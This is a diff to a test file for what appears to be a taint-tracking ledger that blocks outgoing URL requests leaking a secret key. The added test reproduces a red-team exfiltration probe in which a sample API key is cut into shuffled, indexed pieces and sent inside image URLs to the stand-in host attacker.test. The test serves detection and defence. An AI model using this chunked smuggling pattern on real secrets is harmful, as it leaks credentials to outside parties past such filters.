@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { rot13 } from '../../src/taint/encode';
-import { DependencyLedger, PIECE, urlCost } from '../../src/taint/ledger';
+import { DependencyLedger, PIECE, RUN, RUNS, urlCost } from '../../src/taint/ledger';
 import type { TaintToken } from '../../src/taint/tokens';
 
 const KEY = 'sk_live_4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9';
@@ -56,6 +56,19 @@ describe('dependency ledger', () => {
     const halves = new DependencyLedger();
     halves.charge({ url: new URL('http://a1.test/hero.jpg?w=482'), site: 'a1.test' }, taint);
     expect(halves.charge({ url: new URL('http://a2.test/hero.jpg?w=913'), site: 'a2.test' }, taint)).toMatchObject({ refused: true, why: 'taint', across: true });
+  });
+
+  it('finds a key sent out of order, each piece beside its index, once RUNS runs of it arrived', () => {
+    // The red team's probes (issue 37): 5-character pieces shuffled, each with its index; and the same with a
+    // two-digit index glued to each piece (a sibling host). In order, no run of PIECE characters forms.
+    const shuffled = pieces(KEY.replace(/_/g, ''), RUN).map((p, i) => ({ p, i })).sort((a, b) => ((a.i * 7) % 13) - ((b.i * 7) % 13));
+    for (const url of [({ p, i }: { p: string; i: number }) => `http://attacker.test/r/${i}/${p}.png`, ({ p, i }: { p: string; i: number }) => `http://attacker.test/r/${String(i).padStart(2, '0')}${p}.png`]) {
+      const ledger = new DependencyLedger();
+      const verdicts = shuffled.map((piece) => ledger.charge(at(url(piece)), taint));
+      const first = verdicts.findIndex((v) => v.refused);
+      expect(verdicts[first]).toMatchObject({ refused: true, why: 'taint' });
+      expect(shuffled.slice(0, first).filter(({ p }) => p.length >= RUN).length).toBeLessThan(RUNS);
+    }
   });
 
   it('keeps the streams of all sites together across a restart', () => {
